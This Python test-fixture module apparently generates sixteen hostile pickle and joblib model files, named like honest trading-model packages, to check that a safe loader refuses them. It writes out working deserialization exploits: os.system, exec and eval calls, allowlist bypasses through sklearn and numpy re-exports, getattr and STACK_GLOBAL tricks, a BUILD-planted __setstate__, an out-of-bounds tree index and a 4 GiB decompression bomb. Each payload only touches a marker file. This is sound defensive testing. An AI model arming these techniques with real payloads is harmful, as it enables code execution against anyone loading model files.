# SPDX-License-Identifier: Apache-2.0
"""Hostile files, one technique each, named like the honest ones they stand beside.

Every payload does one harmless thing, which is to create its own marker file; so a test can tell whether
anything ran. Three files carry no payload, because their effect is another: memory, a crash, or nothing.
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import subprocess
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np

from .containers import write

__all__ = ["HOSTILE", "Attack"]

_BOMB_BYTES = 4 << 30
"""What the bomb inflates to, from 4 MB on disk."""
_BOMB_BLOCK = 16 << 20


@dataclass(frozen=True)
class Attack:
    """One hostile file.

    Attributes:
        file_name: as in the estate.
        technique: what it does, in a sentence.
        rule_class: the kind of rule that has to refuse it: global, role, state, opcode, bytes, structure.
        build: takes an honest package and the marker's path, gives the file's bytes.
        fires: ``load`` when a plain load runs the payload, ``use`` when predicting does, ``never`` without one.
        loader: which library an unsuspecting user would open it with.
    """

    file_name: str
    technique: str
    rule_class: str
    build: Callable[[dict[str, Any], Path], bytes]
    fires: str = "load"
    loader: str = "pickle"


class _Call:
    """Pickles as a call of `function` with `args`."""

    def __init__(self, function: Any, *args: Any) -> None:
        self._call = (function, args)

    def __reduce__(self) -> Any:
        return self._call


def _os_system(package: dict[str, Any], marker: Path) -> bytes:
    return pickle.dumps(_Call(os.system, f"touch '{marker}'"), protocol=4)


def _builtins_exec(package: dict[str, Any], marker: Path) -> bytes:
    return pickle.dumps({**package, "metadata": _Call(exec, _touch(marker))}, protocol=2)


def _builtins_eval_in_zlib(package: dict[str, Any], marker: Path) -> bytes:
    return write({**package, "performance": {"accuracy": _Call(eval, _touch(marker))}}, "joblib+zlib")


def _reexported_callable(package: dict[str, Any], marker: Path) -> bytes:
    """`subprocess.check_output` under a name that a prefix allowlist for sklearn admits."""
    call = _global("sklearn.utils._testing", "check_output") + _args(["touch", str(marker)]) + pickle.REDUCE
    return _with_value(package, "metadata", call)


def _numpy_reexport(package: dict[str, Any], marker: Path) -> bytes:
    """An `exec` that numpy ships for its own tests."""
    call = _global("numpy.testing._private.utils", "runstring") + _args(_touch(marker), {}) + pickle.REDUCE
    return _with_value(package, "performance", call)


def _object_array(package: dict[str, Any], marker: Path) -> bytes:
    """Arrays of objects are a pickle within the joblib file, which joblib up to 1.4 read unrestricted."""
    names = np.array([*package["feature_names"], _Call(os.system, f"touch '{marker}'")], dtype=object)
    return write({**package, "feature_names": names}, "joblib")


def _getattr_chain(package: dict[str, Any], marker: Path) -> bytes:
    """No dangerous name in sight: `getattr(__import__("o" + "s"), "system")` in single steps."""
    module = _global("builtins", "__import__") + _args("os") + pickle.REDUCE
    system = _global("builtins", "getattr") + module + _text("system") + pickle.TUPLE2 + pickle.REDUCE
    return _with_value(package, "metadata", system + _args(f"touch '{marker}'") + pickle.REDUCE)


def _engineer_reduce(package: dict[str, Any], marker: Path) -> bytes:
    """The payload sits where unknown classes are admitted, with a class that states its own reduction."""
    return write(
        {**package, "feature_engineer": _Call(subprocess.call, ["touch", str(marker)])}, "joblib+gzip"
    )


def _dotted_name(package: dict[str, Any], marker: Path) -> bytes:
    """STACK_GLOBAL walks attributes along the dots: joblib.disk imported os."""
    call = _stack_global("joblib.disk", "os.system") + _args(f"touch '{marker}'") + pickle.REDUCE
    return _with_value(package, "metadata", call)


def _old_instance_opcode(package: dict[str, Any], marker: Path) -> bytes:
    """INST of protocol 0 imports and calls in one opcode; honest picklers gave it up with Python 2."""
    return pickle.MARK + _text_line(f"touch '{marker}'") + pickle.INST + b"os\nsystem\n" + pickle.STOP


def _callable_as_data(package: dict[str, Any], marker: Path) -> bytes:
    """Nothing happens on load: a step holds `joblib.dump`, and the first prediction writes where it says."""
    import joblib
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer

    step = FunctionTransformer(func=joblib.dump, kw_args={"filename": str(marker)})
    pipeline = Pipeline([("cache", step), *package["pipeline"].steps])
    return pickle.dumps({**package, "pipeline": pipeline}, protocol=4)


def _state_of_a_class(package: dict[str, Any], marker: Path) -> bytes:
    """BUILD on a class sets its attributes: here the `__setstate__` that the next BUILD calls."""
    cls = _global("sklearn._loss.link", "LogitLink")
    slots = pickle.EMPTY_DICT + _text("__setstate__") + _global("os", "system") + pickle.SETITEM
    patched = cls + pickle.NONE + slots + pickle.TUPLE2 + pickle.BUILD
    instance = patched + pickle.EMPTY_TUPLE + pickle.NEWOBJ + _text(f"touch '{marker}'") + pickle.BUILD
    return _with_value(package, "metadata", instance)


def _tree_out_of_bounds(package: dict[str, Any], marker: Path) -> bytes:
    """Honest globals throughout; a child index points past the nodes, and predicting reads foreign memory."""
    from sklearn.ensemble import RandomForestClassifier

    generator = np.random.default_rng(7)
    forest = RandomForestClassifier(n_estimators=2, max_depth=3, random_state=7)
    X = generator.random((64, len(package["feature_names"])))
    forest.fit(X, (X[:, 0] > 0.5).astype(int))
    tree = forest.estimators_[0].tree_
    state = tree.__getstate__()
    state["nodes"]["left_child"][0] = 1 << 40
    tree.__setstate__(state)
    return write({**package, "pipeline": forest}, "joblib+xz")


def _bomb(package: dict[str, Any], marker: Path) -> bytes:
    """Some megabytes of one zlib stream that inflate to gibibytes, the body of one bytes object."""
    head = pickle.PROTO + bytes([4]) + pickle.BINBYTES8 + struct.pack("<Q", _BOMB_BYTES)
    squeezer = zlib.compressobj(9)
    start = squeezer.compress(head) + squeezer.flush(zlib.Z_FULL_FLUSH)
    block = squeezer.compress(bytes(_BOMB_BLOCK)) + squeezer.flush(zlib.Z_FULL_FLUSH)
    end = squeezer.compress(pickle.STOP) + squeezer.flush()
    # Blocks between full flushes do not refer to each other, so one can stand for all; the checksum of zeros
    # is known without reading them (RFC 1950: a stays, b grows by a per byte).
    low, high = (check := zlib.adler32(head)) & 0xFFFF, check >> 16
    check = ((high + low * _BOMB_BYTES) % 65521) << 16 | low
    check = zlib.adler32(pickle.STOP, check)
    return start + block * (_BOMB_BYTES // _BOMB_BLOCK) + end[:-4] + struct.pack(">I", check)


def _truncated(package: dict[str, Any], marker: Path) -> bytes:
    """Cut off after the call: a load fails, but only once the payload has run."""
    whole = _with_value(
        package, "metadata", _global("os", "system") + _args(f"touch '{marker}'") + pickle.REDUCE
    )
    return whole[:-2]


def _second_pickle(package: dict[str, Any], marker: Path) -> bytes:
    """An honest pickle first; whoever reads on, as log readers do, meets the second."""
    return pickle.dumps(package, protocol=4) + _os_system(package, marker)


def _touch(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def _body(value: Any) -> bytes:
    """The opcodes that put `value` on the stack: a protocol 2 pickle without its ends, memo unused."""
    buffer = io.BytesIO()
    pickler = pickle.Pickler(buffer, protocol=2)
    pickler.fast = True
    pickler.dump(value)
    return buffer.getvalue()[2:-1]


def _text(value: str) -> bytes:
    return _body(value)


def _text_line(value: str) -> bytes:
    return pickle.UNICODE + value.encode("raw-unicode-escape") + b"\n"


def _args(*values: Any) -> bytes:
    return pickle.MARK + b"".join(_body(value) for value in values) + pickle.TUPLE


def _global(module: str, name: str) -> bytes:
    return pickle.GLOBAL + f"{module}\n{name}\n".encode()


def _stack_global(module: str, name: str) -> bytes:
    return _text(module) + _text(name) + pickle.STACK_GLOBAL


def _with_value(package: dict[str, Any], key: str, opcodes: bytes) -> bytes:
    """The honest package without frames, then `package[key] = <opcodes>`, marked as protocol 4."""
    rest = {name: value for name, value in package.items() if name != key}
    whole = pickle.dumps(rest, protocol=2)
    return pickle.PROTO + bytes([4]) + whole[2:-1] + _text(key) + opcodes + pickle.SETITEM + pickle.STOP


HOSTILE: tuple[Attack, ...] = (
    Attack("EURUSD_ml_package_20240201_101500.pkl", "os.system called by REDUCE", "global", _os_system),
    Attack(
        "EURUSD_ml_package_20240315_101500.pkl", "builtins.exec in the metadata", "global", _builtins_exec
    ),
    Attack(
        "EURUSD_ml_package_20240415_101500.joblib",
        "builtins.eval in the performance figures of a compressed joblib file",
        "global",
        _builtins_eval_in_zlib,
        loader="joblib",
    ),
    Attack(
        "EURUSD_ml_package_20240515_101500.pkl",
        "check_output, reachable under sklearn.utils._testing",
        "global",
        _reexported_callable,
    ),
    Attack(
        "EURUSD_ml_package_20240615_101500.pkl",
        "runstring, an exec that numpy.testing exports",
        "global",
        _numpy_reexport,
    ),
    Attack(
        "GOOG_ml_package_20240201_101500.joblib",
        "a call inside an array of objects of a joblib file",
        "global",
        _object_array,
        loader="joblib",
    ),
    Attack(
        "GOOG_ml_package_20240315_101500.pkl", "a chain of getattr over __import__", "global", _getattr_chain
    ),
    Attack(
        "GOOG_ml_package_20240415_101500.joblib",
        "a __reduce__ in the slot of the feature engineer",
        "global",
        _engineer_reduce,
        loader="joblib",
    ),
    Attack(
        "GOOG_ml_package_20240515_101500.pkl", "a dotted name: joblib.disk, os.system", "global", _dotted_name
    ),
    Attack(
        "GOOG_ml_package_20240615_101500.pkl", "the INST opcode of protocol 0", "opcode", _old_instance_opcode
    ),
    Attack(
        "BTCUSD_ml_package_20240201_101500.pkl",
        "joblib.dump held as data, called by the first prediction",
        "role",
        _callable_as_data,
        fires="use",
    ),
    Attack(
        "BTCUSD_ml_package_20240315_101500.pkl",
        "BUILD on a class, which plants a __setstate__",
        "state",
        _state_of_a_class,
    ),
    Attack(
        "BTCUSD_ml_package_20240415_101500.joblib",
        "a tree whose child lies outside its nodes",
        "structure",
        _tree_out_of_bounds,
        fires="never",
        loader="joblib",
    ),
    Attack(
        "BTCUSD_ml_package_20240515_101500.joblib",
        "a decompression bomb",
        "bytes",
        _bomb,
        fires="never",
        loader="joblib",
    ),
    Attack("BTCUSD_ml_package_20240615_101500.pkl", "cut off behind a call", "bytes", _truncated),
    Attack(
        "BTCUSD_ml_package_20240715_101500.pkl",
        "a second pickle behind an honest one",
        "bytes",
        _second_pickle,
        fires="never",
    ),
)
